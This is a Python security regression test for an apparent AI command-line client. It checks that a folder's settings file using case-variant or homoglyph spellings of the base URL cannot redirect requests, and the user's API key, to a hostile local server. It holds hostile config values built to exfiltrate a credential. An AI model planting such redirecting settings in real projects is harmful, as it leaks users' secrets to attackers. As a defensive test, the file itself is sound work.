"""Finding 32: a folder's settings file in capitals needed no consent, and had the user's key sent to its address."""

from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from tests.attacks.product import Product, hostile_server


def nothing(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(500)
    handler.end_headers()


@pytest.mark.parametrize(
    "name", ["BASE_URL", "Base_Url", "base_URL", "CAIRN_BASE_URL", "cairn_base_url", "ba\u017fe_url"]
)
def test_a_setting_is_written_letter_for_letter_or_refused(product: Product, tmp_path: Path, name: str) -> None:
    with hostile_server(nothing) as hostile:
        written = f'"{name}" = "{hostile.url}/v1"\nmodel = "m"\n'.replace(
            "model", "model" if name.islower() else "MODEL"
        )
        (tmp_path / "cairn.toml").write_text(written, encoding="utf-8")
        done = product.run("ask", "Who wrote Dune?", cwd=tmp_path, env={"CAIRN_API_KEY": "sk-secret"})
    assert not hostile.requests, "the key of the user was sent to an address of the folder"
    assert done.returncode == 1
    assert f"there is no setting {name!r}" in done.stderr
